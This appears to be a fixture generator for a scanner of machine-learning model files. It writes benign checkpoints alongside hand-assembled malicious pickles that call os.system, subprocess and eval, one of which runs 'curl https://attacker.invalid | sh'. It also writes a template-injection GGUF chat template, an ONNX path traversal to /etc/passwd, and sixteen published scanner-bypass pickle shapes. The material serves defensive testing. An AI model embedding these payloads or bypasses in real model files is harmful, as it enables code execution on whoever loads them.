#!/usr/bin/python3
"""Writes the model-file fixtures of test/artifacts/fixtures and their expectations.

Run with Debian's Python (python3-torch, python3-numpy, python3-joblib, python3-sklearn,
python3-h5py):  /usr/bin/python3 test/artifacts/make_fixtures.py

Benign files are written by the real libraries. Malicious pickles are assembled opcode by
opcode (never created by pickling a live object and never loaded). Each fixture's expected
findings are written to expected.json next to it: {file: [[code, subject-substring], ...]}.
"""
import io
import json
import os
import struct
import sys
import tarfile
import zipfile

FIXED_TIME = (2024, 1, 1, 0, 0, 0)  # zip member times, so that rerunning gives the same bytes
HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'fixtures')
EXPECTED = {}


def out(name, data, expect):
    """Writes one fixture; `expect` lists (code, substring of subject or message) pairs."""
    with open(os.path.join(HERE, name), 'wb') as f:
        f.write(data)
    EXPECTED[name] = [list(e) for e in expect]


# --- opcode helpers (pickle protocol, PEP 307/3154) ----------------------------------------
def PROTO(n): return b'\x80' + bytes([n])
def FRAME(body): return b'\x95' + struct.pack('<Q', len(body)) + body
def SU(s):  # SHORT_BINUNICODE
    b = s.encode(); return b'\x8c' + bytes([len(b)]) + b
def BU(s):  # BINUNICODE
    b = s.encode(); return b'X' + struct.pack('<I', len(b)) + b
def BS(s):  # SHORT_BINSTRING (protocol 1/2 str)
    b = s.encode(); return b'U' + bytes([len(b)]) + b
def GLOBAL(m, n): return b'c' + m.encode() + b'\n' + n.encode() + b'\n'
def BINPUT(i): return b'q' + bytes([i])
def BINGET(i): return b'h' + bytes([i])
def LONG_BINPUT(i): return b'r' + struct.pack('<I', i)
def LONG_BINGET(i): return b'j' + struct.pack('<I', i)
MEMOIZE = b'\x94'
STACK_GLOBAL = b'\x93'
TUPLE1 = b'\x85'
TUPLE2 = b'\x86'
REDUCE = b'R'
STOP = b'.'
MARK = b'('
EMPTY_DICT = b'}'
EMPTY_TUPLE = b')'
NONE = b'N'


def call_global(module, name, *args, proto=4):
    """PROTO, STACK_GLOBAL module.name, args as strings, REDUCE, STOP."""
    body = SU(module) + MEMOIZE + SU(name) + MEMOIZE + STACK_GLOBAL + MEMOIZE
    body += MARK + b''.join(SU(a) for a in args) + b't' + MEMOIZE + REDUCE + MEMOIZE + STOP
    return PROTO(proto) + FRAME(body)


def call_classic(module, name, arg):
    """Protocol 2 with GLOBAL (what `__reduce__` gives for protocol 2)."""
    return PROTO(2) + GLOBAL(module, name) + BINPUT(0) + BU(arg) + BINPUT(1) + TUPLE1 + BINPUT(2) + REDUCE + BINPUT(3) + STOP


def main():
    os.makedirs(HERE, exist_ok=True)
    import numpy as np
    import torch
    import joblib
    from sklearn.linear_model import LogisticRegression
    from sklearn.tree import DecisionTreeClassifier
    import h5py

    torch.manual_seed(0)

    # --- benign checkpoints -----------------------------------------------------------------
    buf = io.BytesIO()
    torch.save({'layer.weight': torch.randn(4, 3), 'layer.bias': torch.zeros(4), 'step': 10}, buf)
    state_dict = buf.getvalue()
    out('state_dict.pt', state_dict, [])

    buf = io.BytesIO()
    torch.save({'w': torch.arange(6, dtype=torch.float32).reshape(2, 3)}, buf, _use_new_zipfile_serialization=False)
    out('state_dict_legacy.pt', buf.getvalue(), [])
    buf = io.BytesIO()
    torch.save({'w': torch.ones(3)}, buf, _use_new_zipfile_serialization=False, pickle_protocol=4)
    out('state_dict_legacy_protocol4.pt', buf.getvalue(), [])

    net = torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.ReLU())
    buf = io.BytesIO()
    torch.save(net, buf)  # a whole module: torch.nn classes only (allowed)
    out('sequential_model.pth', buf.getvalue(), [])

    X = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0]])
    y = np.array([0, 1, 1, 0])
    clf = LogisticRegression().fit(X, y)
    tree = DecisionTreeClassifier(max_depth=2, random_state=0).fit(X, y)
    buf = io.BytesIO()
    joblib.dump(clf, buf)
    out('sklearn_logreg.joblib', buf.getvalue(), [])
    buf = io.BytesIO()
    joblib.dump(tree, buf)
    out('sklearn_tree.joblib', buf.getvalue(), [])
    import pickle
    out('sklearn_tree.pkl', pickle.dumps(tree, protocol=4), [])
    out('sklearn_tree_protocol0.pkl', pickle.dumps(tree, protocol=0), [])
    buf = io.BytesIO()
    joblib.dump(tree, buf, compress=3)  # zlib
    out('sklearn_tree_zlib.joblib', buf.getvalue(), [])
    buf = io.BytesIO()
    joblib.dump(clf, buf, compress=('gzip', 3))
    out('sklearn_logreg_gzip.joblib', buf.getvalue(), [])
    buf = io.BytesIO()
    joblib.dump(clf, buf, compress=('bz2', 3))
    out('sklearn_logreg_bz2.joblib', buf.getvalue(), [('MLS607', 'bz2')])
    buf = io.BytesIO()
    joblib.dump({'features': np.arange(1000, dtype=np.float64), 'names': np.array(['a', None], dtype=object)}, buf)
    out('joblib_arrays.joblib', buf.getvalue(), [])

    # --- NumPy ------------------------------------------------------------------------------
    buf = io.BytesIO()
    np.save(buf, np.arange(12, dtype=np.int32).reshape(3, 4))
    out('numeric.npy', buf.getvalue(), [])
    buf = io.BytesIO()
    np.save(buf, np.array(['cat', 7, None], dtype=object), allow_pickle=True)
    out('object_array.npy', buf.getvalue(), [('MLS603', 'dtype=object')])
    buf = io.BytesIO()
    np.savez(buf, weights=np.ones((2, 2), dtype=np.float32), labels=np.array(['x', 1], dtype=object))
    out('arrays.npz', buf.getvalue(), [('MLS603', 'dtype=object')])
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b' ' * (63 - len(header) % 64) + b'\n'
    npy_evil = b'\x93NUMPY\x01\x00' + struct.pack('<H', len(header)) + header + call_classic('os', 'system', 'id')
    out('object_array_evil.npy', npy_evil, [('MLS601', 'os.system')])

    # --- TorchScript ------------------------------------------------------------------------
    scripted = torch.jit.script(torch.nn.Linear(2, 1))
    buf = io.BytesIO()
    torch.jit.save(scripted, buf)
    out('scripted.pt', buf.getvalue(), [('MLS604', 'code/')])

    # --- zip with an unusual archive folder, holding a malicious data.pkl --------------------
    def rezip(data, rename=None, replace=None, bad_crc=None):
        src = zipfile.ZipFile(io.BytesIO(data))
        dst_buf = io.BytesIO()
        with zipfile.ZipFile(dst_buf, 'w', zipfile.ZIP_STORED) as dst:
            for info in src.infolist():
                content = src.read(info.filename)
                name = info.filename
                if replace and name.endswith(replace[0]):
                    content = replace[1]
                if rename:
                    name = rename + name.split('/', 1)[1]
                dst.writestr(zipfile.ZipInfo(name, date_time=FIXED_TIME), content)
        data = bytearray(dst_buf.getvalue())
        if bad_crc:
            # corrupt the CRC-32 of the member in its local header and in the central directory
            target = bad_crc.encode()
            for sig, name_at, crc_at in ((b'PK\x03\x04', 30, 14), (b'PK\x01\x02', 46, 16)):
                i = data.find(sig)
                while i >= 0:
                    n = struct.unpack_from('<H', data, i + 26 if sig == b'PK\x03\x04' else i + 28)[0]
                    if bytes(data[i + name_at:i + name_at + n]).endswith(target):
                        data[i + crc_at] ^= 0xff
                    i = data.find(sig, i + 1)
        return bytes(data)

    evil_data_pkl = call_classic('posix', 'system', 'curl https://attacker.invalid | sh')
    out('unusual_folder.pt', rezip(state_dict, rename='zz_weird-folder.v2/', replace=('data.pkl', evil_data_pkl)), [('MLS601', 'posix.system')])
    out('bad_crc.pt', rezip(state_dict, replace=('data.pkl', evil_data_pkl), bad_crc='data.pkl'), [('MLS601', 'posix.system')])

    # --- legacy PyTorch with a malicious data pickle -----------------------------------------
    legacy = bytearray()
    legacy += PROTO(2) + b'\x8a\x0a' + (0x1950a86a20f9469cfc6c).to_bytes(10, 'little') + STOP
    legacy += PROTO(2) + b'M\xe9\x03' + STOP
    legacy += PROTO(2) + EMPTY_DICT + STOP
    legacy += call_classic('subprocess', 'Popen', 'id')
    legacy += PROTO(2) + b']' + STOP
    out('legacy_evil.pt', bytes(legacy), [('MLS601', 'subprocess.Popen')])

    # --- old tar format ----------------------------------------------------------------------
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode='w', format=tarfile.USTAR_FORMAT) as tar:
        for name, content in [('sys_info', PROTO(2) + EMPTY_DICT + STOP), ('pickle', call_classic('os', 'system', 'id')), ('storages', PROTO(2) + b'K\x00' + STOP), ('tensors', PROTO(2) + b'K\x00' + STOP)]:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    out('old_tar_format.pt', tbuf.getvalue(), [('MLS601', 'os.system')])

    # --- plain malicious pickles, protocol 0 text, several pickles, hidden extension ---------
    out('protocol0_system.pkl', b"cos\nsystem\n(S'echo pwned'\ntR.", [('MLS601', 'os.system')])
    out('protocol0_inst.pkl', b"(S'id'\nios\nsystem\n.", [('MLS601', 'os.system')])
    out('two_pickles.pkl', PROTO(4) + EMPTY_DICT + STOP + call_global('builtins', 'exec', "print('second pickle')"), [('MLS601', 'builtins.exec')])
    out('vocab_hidden.bin', call_classic('builtins', 'eval', "__import__('os').system('id')"), [('MLS601', 'builtins.eval')])

    # --- published bypass shapes --------------------------------------------------------------
    # 1. picklescan #14: BINPUT and MEMOIZE mixed so that a naive memo model sees torch._utils.
    memo_confusion = PROTO(4) + BS('os') + BINPUT(0) + BS('system') + BINPUT(1) + SU('torch._utils') + MEMOIZE + SU('_rebuild_tensor_v2') + MEMOIZE
    memo_confusion += b'0000' + BINGET(0) + BINGET(1) + STACK_GLOBAL + BU('id') + TUPLE1 + REDUCE + STOP
    out('bypass_memo_confusion.pkl', memo_confusion, [('MLS601', 'os.system')])
    # 2. picklescan #22 (imaginaryctf): STACK_GLOBAL operands through a memo chain (LONG_BINPUT/GET, DUP).
    chain = PROTO(4) + SU('subprocess') + LONG_BINPUT(7) + b'0' + SU('check_output') + b'2' + LONG_BINPUT(9) + b'00'
    chain += LONG_BINGET(7) + LONG_BINGET(9) + STACK_GLOBAL + MARK + SU('id') + b'l' + TUPLE1 + REDUCE + STOP
    out('bypass_stack_global_memo_chain.pkl', chain, [('MLS601', 'subprocess.check_output')])
    # 3. GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name reaches any callable.
    out('bypass_pkgutil_resolve_name.pkl', call_global('pkgutil', 'resolve_name', 'os:system'), [('MLS601', 'pkgutil.resolve_name')])
    # 4-5. picklescan PR #74: importlib.import_module, marshal.loads.
    out('bypass_importlib.pkl', call_global('importlib', 'import_module', 'os'), [('MLS601', 'importlib.import_module')])
    out('bypass_marshal.pkl', call_classic('marshal', 'loads', 'c\x00'), [('MLS601', 'marshal.loads')])
    # 6. GHSA-xp4f-hrf8-rxw7: ensurepip._run_pip.
    out('bypass_ensurepip.pkl', call_global('ensurepip', '_run_pip', 'install'), [('MLS601', 'ensurepip._run_pip')])
    # 7. GHSA-v7x6-rv5q-mhwc: timeit.timeit runs a code string.
    out('bypass_timeit.pkl', call_global('timeit', 'timeit', "__import__('os').system('id')"), [('MLS601', 'timeit.timeit')])
    # 8. JFrog CVE-2025-10157: a submodule of a listed module (asyncio.unix_events).
    out('bypass_asyncio_submodule.pkl', call_global('asyncio.unix_events', '_UnixSubprocessTransport._start', 'id'), [('MLS601', 'asyncio.unix_events')])
    # 9. modelscan #311/PR #313: torch._dynamo guard evaluation.
    out('bypass_torch_dynamo.pkl', call_global('torch._dynamo.guards', 'GuardBuilder.get', "__import__('os').system('id')"), [('MLS601', 'torch._dynamo.guards')])
    # 10. GHSA-9gvj-pp9x-gcfr-like: the payload, then bytes that break the parse.
    out('bypass_parse_error_after_payload.pkl', PROTO(2) + GLOBAL('os', 'system') + BU('id') + TUPLE1 + REDUCE + b'\xff\xfe' + STOP, [('MLS601', 'os.system'), ('MLS607', 'unknown opcode')])
    # 11. modelscan PR #313: code.InteractiveInterpreter.runcode, a dotted name (protocol 4).
    out('bypass_code_runcode.pkl', call_global('code', 'InteractiveInterpreter.runcode', "import os"), [('MLS601', 'code.InteractiveInterpreter.runcode')])
    # 12. A callable no deny list names (tarfile.open): the allow list makes it a warning.
    out('bypass_unlisted_callable.pkl', call_global('tarfile', 'open', '/tmp/x.tar'), [('MLS602', 'tarfile.open')])
    # 13. A computed module name: STACK_GLOBAL on the result of a call cannot be resolved.
    computed = PROTO(4) + GLOBAL('builtins', 'str') + SU('os') + TUPLE1 + REDUCE + SU('system') + STACK_GLOBAL + SU('id') + TUPLE1 + REDUCE + STOP
    out('bypass_computed_stack_global.pkl', computed, [('MLS602', 'unresolved-global')])
    # 14. An extension code (copyreg registry) instead of a name.
    out('bypass_ext_code.pkl', PROTO(2) + b'\x82\x42' + BU('id') + TUPLE1 + REDUCE + STOP, [('MLS602', 'extension')])
    # 15. Python 2 module names (__builtin__) and functools.partial / operator.attrgetter chains.
    out('bypass_py2_builtin.pkl', b"c__builtin__\ngetattr\n(c__builtin__\nopen\nS'x'\ntR.", [('MLS601', '__builtin__.getattr'), ('MLS601', '__builtin__.open')])
    out('bypass_functools_partial.pkl', call_global('functools', 'partial', 'id'), [('MLS601', 'functools.partial')])
    out('bypass_operator_attrgetter.pkl', call_global('operator', 'attrgetter', 'system'), [('MLS601', 'operator.attrgetter')])
    # 16. numpy.testing runstring (issue 17's list).
    out('bypass_numpy_testing.pkl', call_global('numpy.testing._private.utils', 'runstring', "import os", ), [('MLS601', 'numpy.testing')])

    # --- truncated / corrupt ---------------------------------------------------------------
    out('truncated.pt', state_dict[: len(state_dict) // 2], [('MLS607', 'zip')])
    out('truncated.pkl', call_classic('os', 'system', 'id')[:-6], [('MLS601', 'os.system'), ('MLS607', 'truncated')])

    # --- safetensors (format from huggingface.co/docs/safetensors) ----------------------------
    def safetensors(header, data):
        h = json.dumps(header).encode()
        h += b' ' * ((8 - len(h) % 8) % 8)
        return struct.pack('<Q', len(h)) + h + data
    good = safetensors({'__metadata__': {'format': 'pt'}, 'w': {'dtype': 'F32', 'shape': [2, 2], 'data_offsets': [0, 16]}, 'b': {'dtype': 'F16', 'shape': [2], 'data_offsets': [16, 20]}}, bytes(20))
    out('model.safetensors', good, [])
    bad = safetensors({'w': {'dtype': 'F32', 'shape': [2, 2], 'data_offsets': [0, 16]}, 'b': {'dtype': 'F32', 'shape': [2], 'data_offsets': [8, 16]}, '__metadata__': {'n': 3}}, bytes(16))
    out('broken.safetensors', bad, [('MLS607', 'overlaps')])

    # --- GGUF (format from ggml docs/gguf.md) ---------------------------------------------------
    def gstr(s):
        b = s.encode(); return struct.pack('<Q', len(b)) + b
    def gguf(template):
        kv = [('general.architecture', 8, gstr('llama')), ('tokenizer.ggml.tokens', 9, struct.pack('<IQ', 8, 3) + gstr('a') + gstr('b') + gstr('c')), ('tokenizer.chat_template', 8, gstr(template)), ('general.file_type', 4, struct.pack('<I', 1))]
        body = b'GGUF' + struct.pack('<IQQ', 3, 0, len(kv))
        for key, t, value in kv:
            body += gstr(key) + struct.pack('<I', t) + value
        return body
    out('chat_ok.gguf', gguf("{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"), [])
    out('chat_evil.gguf', gguf("{{ ''.__class__.__mro__[1].__subclasses__()[40]('id').read() }}{% for m in messages %}{{ m.content }}{% endfor %}"), [('MLS605', 'tokenizer.chat_template')])

    # --- ONNX (protobuf by hand, field numbers from onnx.proto) ---------------------------------
    def varint(n):
        b = bytearray()
        while True:
            if n < 0x80:
                b.append(n); return bytes(b)
            b.append((n & 0x7f) | 0x80); n >>= 7
    def field(num, payload): return varint(num << 3 | 2) + varint(len(payload)) + payload
    def entry(k, v): return field(1, k.encode()) + field(2, v.encode())
    def onnx(location):
        tensor = field(8, b'w') + varint(2 << 3) + varint(1) + field(13, entry('location', location)) + field(13, entry('offset', '0')) + varint(14 << 3) + varint(1)
        graph = field(2, b'g') + field(5, tensor)
        return varint(1 << 3) + varint(8) + field(7, graph)
    out('external_ok.onnx', onnx('weights.bin'), [])
    out('external_traversal.onnx', onnx('../../../../etc/passwd'), [('MLS606', '../../../../etc/passwd')])

    # --- Keras (.keras zip following the Keras 3 saving format; .h5 with h5py) -----------------
    def keras_zip(config):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
            for name, content in [('metadata.json', json.dumps({'keras_version': '3.3.3', 'date_saved': '2024-01-01@00:00:00'})), ('config.json', json.dumps(config)), ('model.weights.h5', b'')]:
                z.writestr(zipfile.ZipInfo(name, date_time=FIXED_TIME), content, compress_type=zipfile.ZIP_DEFLATED)
        return buf.getvalue()
    def seq(layers):
        return {'module': 'keras', 'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': layers}, 'registered_name': None}
    dense = {'module': 'keras.layers', 'class_name': 'Dense', 'config': {'name': 'dense', 'units': 2}, 'registered_name': None}
    lam = {'module': 'keras.layers', 'class_name': 'Lambda', 'config': {'name': 'backdoor', 'function': {'class_name': '__lambda__', 'config': {'code': '4wEAAAAAAAAA', 'defaults': None, 'closure': None}}}, 'registered_name': None}
    custom = {'module': 'acme.layers', 'class_name': 'Scaler', 'config': {'name': 'scaler'}, 'registered_name': 'acme>Scaler'}
    out('dense.keras', keras_zip(seq([dense])), [])
    out('lambda.keras', keras_zip(seq([dense, lam])), [('MLS604', 'layer backdoor')])
    out('custom_object.keras', keras_zip(seq([dense, custom])), [('MLS604', 'acme')])
    for name, layers, expect in [('dense.h5', [dense], []), ('lambda.h5', [dense, lam], [('MLS604', 'layer backdoor')])]:
        path = os.path.join(HERE, name)
        with h5py.File(path, 'w') as f:
            f.attrs['model_config'] = json.dumps({'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': layers}})
            f.attrs['keras_version'] = '2.15.0'
        EXPECTED[name] = [list(e) for e in expect]

    with open(os.path.join(HERE, 'expected.json'), 'w') as f:
        json.dump(EXPECTED, f, indent=1, sort_keys=True)
        f.write('\n')
    print(f'{len(EXPECTED)} fixtures in {HERE}')


if __name__ == '__main__':
    sys.exit(main())
